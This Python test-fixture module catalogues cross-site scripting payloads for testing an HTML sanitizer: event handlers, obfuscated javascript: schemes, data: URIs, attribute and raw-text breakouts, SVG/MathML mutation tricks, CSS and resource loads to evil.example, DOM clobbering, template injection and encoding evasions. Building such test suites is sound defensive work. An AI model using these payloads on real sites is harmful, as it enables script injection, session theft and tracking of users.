"""The parts of markup attacks, of our own writing; `tests.attacks` composes them. What runs calls `owned`, what loads asks evil.example."""

from __future__ import annotations

SCRIPT = "<script>owned()</script>"
IMAGE = "<img src=x onerror=owned()>"

# --- event handlers -----------------------------------------------------------------------------------

EVENTS = (
    *("click", "auxclick", "dblclick", "contextmenu", "mouseover", "mousemove", "mouseout", "pointerenter"),
    *("focus", "focusin", "blur", "keydown", "keyup", "input", "beforeinput", "change", "invalid", "copy", "paste"),
    *("drag", "drop", "wheel", "select", "scrollend", "toggle", "beforetoggle", "animationstart", "cancel"),
)
HOLDERS = ("<b on{}=owned()>", "<svg on{}='owned()'>", '<input/on{}="owned()"/>', "<x-y tabindex=1 ON{}=owned()//>")
#: What stands on the page is enough: nobody has to touch it.
AT_ONCE = (
    *("<img src=x onerror=owned()>", "<img src onerror=owned()>", "<image src=x onerror=owned()>"),
    *("<svg onload=owned()>", "<svg/onload=owned()//>", "<svg><svg onload=owned()></svg>", "<body onload=owned()>"),
    *("<iframe onload=owned()></iframe>", "<iframe srcdoc=x onload=owned()></iframe>"),
    *("<style onload=owned()></style>", "<details open ontoggle=owned()>x", "<input onfocus=owned() autofocus>"),
    *("<b tabindex=1 autofocus onfocus=owned()>", "<video><source onerror=owned()></video>"),
    *("<audio src=x onerror=owned()>", "<video src=x onerror=owned()>", "<object data=x: onerror=owned()></object>"),
    *("<script src=x: onerror=owned()></script>", "<link rel=stylesheet href=x: onerror=owned()>"),
    *("<input type=image src=x onerror=owned()>", "<svg><image href=x onerror=owned() />"),
    *("<svg><animate onbegin=owned() attributeName=x dur=1s>", "<svg><set onbegin=owned() attributeName=x>"),
    *("<body onpageshow=owned()>", "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=owned()>x"),
)
SPELLINGS = (
    *("<img\tsrc=x\tonerror=owned()>", "<img\nsrc=x\nonerror=owned()>", "<img\fsrc=x\fonerror=owned()>"),
    *("<img\rsrc=x\ronerror=owned()>", "<img/src='x'/onerror=owned()>", "<img/x/src=x onerror\n=\nowned()>"),
    *('<img """><script>owned()</script>">', "<IMG SRC=x OnErRoR=owned()>", "<img src='x'onerror='owned()'>"),
    *("<<img src=x onerror=owned()>", "<img src=x onerror=&#111;wned()>", "<img src=x onerror=\\u006fwned()>"),
    *("<img src=x onerror=owned&lpar;&rpar;>", "<img src=x onerror=owned`` >", "<img src=x onerror=self.owned?.()>"),
    *("<img src=x onerror=self['owned']()>", "<img =x src=x onerror=owned()>", "<SCRIPT>owned()</SCRIPT>"),
    *("<script\n>owned()</script\n>", "<script/x>owned()</script/x>", "<script>/*<!--*/owned()/*-->*/</script>"),
    *("<?x ><script>owned()</script>", "<!x><script>owned()</script>", "</x><script>owned()</script>"),
    *("<script type=module>owned()</script>", "<script type=text/javascript>owned()</script>"),
    "<svg><script>owned&#40;)</script>",
)
UNCLOSED = ("<img src=x onerror=owned() ", "<script>owned();//", "<svg/onload=owned()//", "<b onclick=owned();//")

# --- addresses ----------------------------------------------------------------------------------------

#: What a browser takes for `javascript:` after it has undone entities, capitals, and what it skips.
SCHEMES = (
    *("javascript:", "JaVaScRiPt:", " javascript:", "\x01javascript:", "\x1f\x1fjavascript:", "\njavascript:"),
    *("java\tscript:", "java\nscript:", "java\rscript:", "javascript\t:", "j\na\nv\na\nscript:", "&#1;javascript:"),
    *("&#106;avascript:", "&#x6A;avascript:", "&#0000106avascript:", "java&Tab;script:", "java&NewLine;script:"),
    *("javascript&colon;", "javascript:/**/", "javascript://evil.example/%0a", "javascript:void+", "javascript:0?1:"),
)
LINKS = (
    *("<a href='{}owned()'>x</a>", "<iframe src='{}owned()'></iframe>"),
    *("<form action='{}owned()'><button>x</button></form>", "<svg><a xlink:href='{}owned()'><text>x</text></a></svg>"),
)
DATA = (
    *("data:text/html,<script>owned()</script>", "DATA:text/html;charset=utf-8,%3Cscript%3Eowned()%3C/script%3E"),
    "data:text/html;base64,PHNjcmlwdD5vd25lZCgpPC9zY3JpcHQ+PCEtLSBvd25lZCAtLT4=#owned",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='owned()'/>",
    "data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>owned()</x:script>",
    "data:text/xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>owned()</x:script>",
    "da\tta:text/html,<img src=x onerror=owned()>",
)
HOSTS = (
    *("//evil.example/x", "/\\evil.example/x", "\\\\evil.example/x", "https:evil.example/x", "https:/\\evil.example/x"),
    *("\thttps://evil.example/x", "ht\ntps://evil.example/x", "https:\n//evil.example/x"),
)
OLD_SCHEMES = (
    *("vbscript:owned()", "livescript:owned()", "mocha:owned()", "feed:javascript:owned()"),
    *("jar:https://evil.example!/x", "view-source:javascript:owned()", "&{owned()};", "mhtml:https://evil.example!x"),
    "res://evil.example",
)

# --- out of an attribute, out of raw text -------------------------------------------------------------

OUT = (
    *(" onclick=owned() x=", ">" + SCRIPT, ">" + IMAGE, "/><svg onload=owned()>"),
    *(" autofocus tabindex=1 onfocus=owned() x=", " style=background:url(https://evil.example/x) x="),
    *("\tonclick\t=\towned()\tx=", "\fonclick=owned()\fx="),
)
QUOTES = {'"': '<b title="{}">x</b>', "'": "<b title='{}'>x</b>", "": "<b title=x{}>x</b>", "x`": "<b title={}>x</b>"}
RAW = (
    *("script", "style", "title", "textarea", "noscript", "xmp", "noembed", "noframes", "iframe", "template", "select"),
)
ENDS = ("</{}>", "</{}\t>", "</{}/x=>", "</{}\n x='>'>")
OPENED = {"script": "<script>x = `{}", "iframe": "<iframe>{}", "title": "<title>{}"}
COMMENTS = ("-->", "--!>", ">", "->", "--><!--x-->")
STRINGS = (
    *('";owned();"', '"-owned()-"', '"+owned()//', '\\\\";owned()//', '",owned(),"', '"||owned()||"', '"?.x;owned()//'),
)
TEMPLATES = ("${owned()}", "`;owned();`", "`+owned()//", f"</script>{IMAGE}", "\\\\`;owned()//")

# --- foreign content, and markup that changes when it is read twice -----------------------------------

FOREIGN = (
    *(f"<svg><style>{IMAGE}</style></svg>", f"<math><style>{IMAGE}</style></math>", f"<svg><title>{IMAGE}</title>"),
    *(f"<svg><desc>{IMAGE}</desc>", f"<svg><foreignObject>{IMAGE}</foreignObject>"),
    *(f"<math><mtext>{IMAGE}</mtext></math>", f"<math><mi>{IMAGE}"),
    *(f"<math><annotation-xml encoding=text/html>{IMAGE}", f"<svg><![CDATA[x]]>{IMAGE}"),
    *(f"<math><mglyph><style>{IMAGE}", f"<svg><textarea>{IMAGE}", f"<svg><noscript>{IMAGE}"),
    *("<svg><script>owned()</script>", "<svg><script href=data:text/javascript,owned() />"),
    *("<math><maction onclick=owned()>x", "<svg><use href='#x' onclick=owned() />", f"<svg><iframe>{IMAGE}</iframe>"),
    f"<svg><font face>{IMAGE}",
    "<svg><a><animate attributeName=href values=javascript:owned() /><text>x</text></a></svg>",
)
CONFUSED = (
    *(f'<noscript><p title="</noscript>{IMAGE}">', f'<xmp><p title="</xmp>{IMAGE}">'),
    *(f"<listing>\n&lt;x>{IMAGE}</listing>", f"<math><mtext><table><mglyph><style><!--</style>{IMAGE}"),
    *(f"<svg></p><title><a id='</title>{IMAGE}'>", f"<table><math><select><mglyph><style>{IMAGE}"),
    f"<p><svg><p><style><!--</style>{IMAGE}-->",
)
READ_TWICE = (
    *(f'<svg><style><a title="</style>{IMAGE}">', f'<math><annotation-xml><style><a title="</style>{IMAGE}">'),
    *(f"<form><math><mtext></form><form><mglyph><style></math>{IMAGE}", f"<select><xmp>{IMAGE}</xmp></select>"),
    *(f"<svg></p><style>{IMAGE}", "<b title='`` onclick=owned()'>"),
    "<listing>\n&lt;img src=x onerror=owned()></listing>",
)

# --- style, and what loads ----------------------------------------------------------------------------

STYLES = (
    *("background:url({})", "background:URL( '{}' )", "background:u\\72l({})", "list-style:url({})", "content:url({})"),
    *("background:image-set('{}' 1x)", "border-image:url({}) 1", "background:/**/url({})"),
    "cursor:url({}),auto;background:url({})",
)
SHEETS = (
    *("@import url({});", "@import '{}';", "@\\69mport '{}';", "@font-face{font-family:f;src:url({})}*{font-family:f}"),
    *("*{background:url({})}", "</style><style>@import '{}';", "<!--*{background:url({})}"),
    "@media all{*{background:url({})}}",
)
OLD_STYLES = (
    *("width:expression(owned())", "w\\69dth:exp/**/ression(owned())", "-moz-binding:url(https://evil.example/x#x)"),
    *("behavior:url(https://evil.example/x.htc)", "background:url(javascript:owned())", "-o-link:'javascript:owned()'"),
)
LOADING = (
    *("<img src={}>", "<img srcset='{} 2x'>", "<picture><source srcset={}><img></picture>"),
    *("<video poster={}></video>", "<video src={} autoplay></video>", "<audio src={} autoplay></audio>"),
    *("<audio><source src={}></audio>", "<video><track default src={}></video><script src={}></script>"),
    *("<input type=image src={}>", "<script src={}></script>", "<script type=module src={}></script>"),
    *("<script>import('{}')</script>", "<script>fetch('{}')</script>", "<iframe src={}></iframe>"),
    *("<object data={}></object>", "<embed src={}>", "<body background={}>", "<table background={}><td>x</table>"),
    *("<table><td background={}>x</table>", "<link rel=stylesheet href={}>", "<link rel=preload as=image href={}>"),
    *("<link rel=prefetch href={}>", "<link rel=modulepreload href={}>", "<link rel='x stylesheet' href={}>"),
    *("<svg><image href={} />", "<svg><image xlink:href={} />", "<frameset><frame src={}>"),
    "<svg><filter id=f><feImage href={} /></filter><rect filter=url(#f) width=9 height=9 />",
    *("<base href={}><img src=x>", "<meta http-equiv=refresh content='0;url={}'>"),
    *("<META HTTP-EQUIV=Refresh CONTENT=0;{}>", "<meta http-equiv=refresh content='0,{}'>"),
    *("<form action={}><button>x</button></form>", "<form><button formaction={}>x</button></form>", "<a href={}>x</a>"),
    *("<form><input type=submit formaction={}></form>", "<form id=f></form><button form=f formaction={}>x</button>"),
    *("<iframe srcdoc='&lt;img src={}>'></iframe>", "<map name=m><area href={}></map>", "<a href=x ping={}>x</a>"),
)
OLD_LOADING = (
    *("<link rel=import href={}>", "<applet code=x archive={}></applet>", "<bgsound src={}>"),
    *("<isindex action={} type=image>", "<img dynsrc={}>", "<img lowsrc={}>", "<layer src={}></layer>"),
    *("<xml src={}></xml>", "<?import namespace=x implementation={} ?>", "<html manifest={}>", "<menuitem icon={}>"),
    *("<command icon={}>", "<portal src={}></portal>", "<?xml-stylesheet href={} ?>"),
    *("<!DOCTYPE x [<!ENTITY x SYSTEM '{}'>]><x>&x;</x>", "<xi:include href={} />"),
)

# --- what needs a reader that trusts it ---------------------------------------------------------------

CLOBBERED = (
    *("rests", "data", "q", "found", "article", "help", "rows", "drawMore", "body", "cookie", "getElementById"),
    "__proto__",
)
CLOBBERING = (
    "<a id={0} name=href href=https://evil.example>x</a>",
    "<form name={0}><input name=action value=owned()></form>",
)
BRACES = (
    *("{{constructor.constructor('owned()')()}}", "{{owned()}}", "{{{owned()}}}", "${owned()}", "#{owned()}"),
    *("%{owned()}", "<%= owned() %>", "<%- owned() %>", "{% include 'https://evil.example' %}"),
    *("{{ self.__init__.__globals__.owned() }}", "{{'owned'|attr('__class__')}}", "{{ 'owned()'|safe }}"),
    *("[[${owned()}]]", "@(owned())", "{php}owned(){/php}", "*{T(owned).x()}", "{{#with 'owned'}}{{/with}}"),
    *("<x ng-app ng-csp>{{$eval('owned()')}}", "<b v-html='owned()'>", "{# owned() #}"),
)
ENCODED = (
    *("+ADw-script+AD4-owned()+ADw-/script+AD4-", "\xc0\xbcscript\xc0\xbeowned()", "\xe0\x80\xbcscript>owned()"),
    *("\xbcscript\xbeowned()", "\uff1cscript\uff1eowned()\uff1c/script\uff1e", "\ufe64img src=x onerror=owned()\ufe65"),
    *("\u2039script\u203aowned()", "<scr\x00ipt>owned()</script>", "<\x00img src=x onerror=owned()>"),
    *("<scr\u2028ipt>owned()</script>", "<s\u200bcript>owned()", "\\u003cscript\\u003eowned()"),
    *("\\x3cscript\\x3eowned()", "\\74script\\76owned()", "%3Cscript%3Eowned()", "%253Cscript%253Eowned()"),
    *("<scr<script>ipt>owned()", "%u003Cscript%u003Eowned()", "&lt;script&gt;owned()", "&amp;lt;script&amp;gt;owned()"),
    *("&#60script&#62owned()", "&#x3c;script&#x3e;owned()", "<\u0338script>owned()", "<\u20d2script>owned()"),
    *("\x1b$B<script>owned()", "\x1b(J<script>owned()\\", "\u017fcript:owned()", "\u212a:owned()"),
)
